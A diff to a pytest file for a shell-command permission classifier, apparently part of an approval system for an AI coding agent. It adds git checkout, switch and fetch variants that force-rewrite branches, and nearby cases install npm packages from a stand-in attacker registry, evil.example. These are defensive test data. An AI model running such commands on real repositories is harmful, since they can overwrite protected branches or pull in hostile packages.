@@ -53,6 +53,10 @@ WIDER = [
      "git update-ref --stdin < refs.txt"),
     ("Bash:git symbolic-ref:HEAD refs/heads/x", "git symbolic-ref HEAD refs/heads/x",
      "git symbolic-ref HEAD refs/heads/y"),
+    ("Bash:git checkout:main", "git checkout main", "git checkout -B main HEAD~3"),
+    ("Bash:git checkout:x", "git checkout x", "git switch -C x origin/x"),
+    ("Bash:net:git fetch:origin", "git fetch origin", "git fetch origin main:main"),
+    ("Bash:net:git fetch:origin", "git fetch origin", "git fetch origin +refs/heads/*:refs/heads/*"),
     # package commands: same registry, same sources, same directory, same options
     ("Bash:npm install", "npm install", "npm install --registry=https://evil.example lodash"),
     ("Bash:npm install", "npm install", "npm --registry https://evil.example install"),
@@ -147,7 +151,8 @@ def test_scope_line_names_what_always_would_cover() -> None:
 @pytest.mark.parametrize("cmd", ["git update-ref refs/heads/main HEAD", "git update-ref -d refs/heads/main",
                                  "git branch -f main HEAD", "git branch -D main", "git branch -m main old",
                                  "git branch -d x main", "git symbolic-ref refs/heads/main refs/heads/x",
-                                 "git update-ref heads/main HEAD~1", "git branch main"])
+                                 "git update-ref heads/main HEAD~1", "git branch main", "git checkout -B main",
+                                 "git switch -C main HEAD~1", "git switch --force-create main"])
 def test_a_ref_key_never_covers_the_base_branch(cmd: str) -> None:
     v = classify_command(cmd, worktree=WT, tmpdir="/tmp", realpath=fake_realpath, protected_refs=["main"])
     assert v.outcome == "ask" and f"Bash:exact:{cmd}" in v.keys, v
